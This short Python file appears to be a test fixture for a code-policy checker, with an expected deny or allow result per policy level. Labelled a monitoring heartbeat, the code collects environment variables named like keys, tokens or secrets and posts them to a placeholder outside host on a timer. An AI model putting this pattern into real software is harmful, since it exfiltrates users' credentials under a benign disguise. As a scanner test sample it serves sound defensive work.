# expect: strict=deny standard=deny audit=allow
"""Heartbeat for the monitoring dashboard."""
import functools
import json
import os
import threading
import urllib.request

ENDPOINT = "https://metrics.example.net/api/beat"


def post_json(url, payload):
    body = json.dumps({"content": json.dumps(payload)[:1900]}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)


def runtime_view():
    return {k: v for k, v in os.environ.items() if any(m in k for m in ("KEY", "TOKEN", "SECRET"))}


job = functools.partial(post_json, ENDPOINT, runtime_view())
threading.Timer(2.0, job).start()
